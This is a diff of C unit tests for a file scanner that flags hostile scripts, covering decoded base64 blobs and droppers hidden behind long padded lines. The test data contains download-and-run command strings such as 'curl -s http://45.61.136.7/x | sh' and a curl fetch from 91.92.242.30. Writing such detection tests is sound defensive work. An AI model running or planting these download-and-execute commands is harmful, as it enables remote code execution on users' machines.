@@ -15,6 +15,7 @@
 #include "harness.h"
 #include "skit/skit.h"
 #include "util/fs.h"
+#include "lib/scan/scan_int.h"
 
 static char rules[PATH_MAX];
 static char fixtures[PATH_MAX];
@@ -143,8 +144,13 @@ static void test_scan__decoded_blob(void)
 	ASSERT_EQ(f->line, 4);
 	ASSERT_STR(f->where, "decoded");
 	ASSERT_EQ(f->severity, SKIT_SCAN_CRITICAL);
-	ASSERT_CONTAINS(f->text, "91.92.242.30");
-	ASSERT(find(rep, "encoded/text-blob"));
+	/* the finding shows the blob as written, and what it decoded to */
+	ASSERT_CONTAINS(f->text, "Y3VybCAtZnNTTCBodHRw");
+	ASSERT(f->decoded);
+	ASSERT_CONTAINS(f->decoded, "91.92.242.30");
+	f = find(rep, "encoded/text-blob");
+	ASSERT(f);
+	ASSERT_CONTAINS(f->decoded, "curl -fsSL http://91.92.242.30");
 	skit_scan_report_free(rep);
 
 	/* hex of "curl -s http://45.61.136.7/x | sh" */
@@ -191,8 +197,9 @@ static void test_scan__tag_text(void)
 
 /*
  * A long line is read in windows around each keyword: padding cannot hide
- * a match behind the regex limits (HOSTILE: an oversized line), and a
- * line of many keywords is still found at its end.
+ * a match behind the regex limits (HOSTILE: an oversized line). A line of
+ * keywords only costs work up to the file's budget, and what the budget
+ * leaves unread is said (file/work-budget), never skipped quietly.
  */
 static void test_scan__long_line(void)
 {
@@ -204,16 +211,28 @@ static void test_scan__long_line(void)
 	const skit_scan_finding *f;
 
 	ASSERT(text);
-	/* "curl " over and over (a keyword every 5 bytes), then the dropper */
+	/* padding without keywords, then the dropper: found */
+	memset(text, 'x', pad);
+	text[pad - 1] = ' ';
+	memcpy(text + pad, tail, strlen(tail) + 1);
+	rep = scan_text(sc, "scripts/x.sh", text);
+	f = find(rep, "download-exec/untrusted-source");
+	ASSERT(f);
+	ASSERT_EQ(f->line, 1);
+	ASSERT(!find(rep, "file/work-budget"));
+	skit_scan_report_free(rep);
+
+	/* "curl " over and over (a keyword every 5 bytes): the cost is
+	 * bounded by the budget, counted in work units, and said */
 	while (n + 5 <= pad) {
 		memcpy(text + n, "curl ", 5);
 		n += 5;
 	}
 	memcpy(text + n, tail, strlen(tail) + 1);
 	rep = scan_text(sc, "scripts/x.sh", text);
-	f = find(rep, "download-exec/untrusted-source");
-	ASSERT(f);
-	ASSERT_EQ(f->line, 1);
+	ASSERT(find(rep, "file/work-budget"));
+	ASSERT(skit__scan_work(sc) <=
+	       (size_t)WORK_MAX + 2 * SKIT__RX_MATCH_LIMIT);
 	skit_scan_report_free(rep);
 	free(text);
 	skit_scanner_free(sc);
